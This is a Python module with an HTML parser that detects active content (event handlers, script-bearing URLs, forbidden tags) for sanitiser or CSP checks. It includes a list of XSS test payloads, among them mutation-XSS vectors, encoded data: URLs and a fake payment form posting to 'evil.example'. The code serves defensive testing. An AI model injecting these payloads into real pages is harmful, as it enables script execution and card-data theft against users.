"""An HTML walker that finds anything active a strict CSP or a sanitiser must never let through."""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>window.__xss=1</script>",
    '<img src=x onerror="window.__xss=1">',
    '<svg onload="window.__xss=1"></svg>',
    '<div onclick="window.__xss=1">click</div>',
    '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](  javascript&#58;window.__xss=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:window.__xss=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>',
    "<style>body{display:none}</style>",
    '<a href="#" style="position:fixed;inset:0">overlay</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '::: warning "><script>window.__xss=1</script>\ntext\n:::',
    '[x](exercise:"onmouseover=window.__xss=1)',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    "</script><script>window.__xss=1</script>",
    "<!--<script>window.__xss=1</script>-->",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "form", "input", "button", "style", "svg", "math", "base",
                  "meta", "link", "img", "frame", "frameset", "textarea", "select"}  # fmt: skip


class ActiveContent(HTMLParser):
    """Collects every problem; `page=True` allows the page's own assets (static scripts, JSON-LD, CSS links)."""

    def __init__(self, page: bool = False):
        super().__init__(convert_charrefs=True)
        self.page, self.problems = page, []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name == "style":
                self.problems.append(f"<{tag} style>")
            if name == "content" and not attrs.get("http-equiv"):
                continue  # a plain <meta content> is text; only a refresh header can navigate
            if name in ("href", "src", "action", "formaction", "data", "content") and value:
                lowered = "".join(value.split()).lower()
                if lowered.startswith(("javascript:", "data:", "vbscript:")) or "url=javascript" in lowered:
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and attrs.get("http-equiv"):
            self.problems.append(f"<meta http-equiv={attrs['http-equiv']!r}>")
        if tag in FORBIDDEN_TAGS and not (self.page and self._allowed_on_page(tag, attrs)):
            self.problems.append(f"<{tag}>")

    def _allowed_on_page(self, tag, attrs) -> bool:
        if tag == "script":
            return attrs.get("type") == "application/ld+json" or (attrs.get("src") or "").startswith("/static/")
        # The page's own head, search form and log-out button: their attributes are checked above.
        return tag in ("meta", "link", "input", "button", "form", "select", "img")


def active_content(html: str, page: bool = False) -> list[str]:
    parser = ActiveContent(page=page)
    parser.feed(html)
    return parser.problems
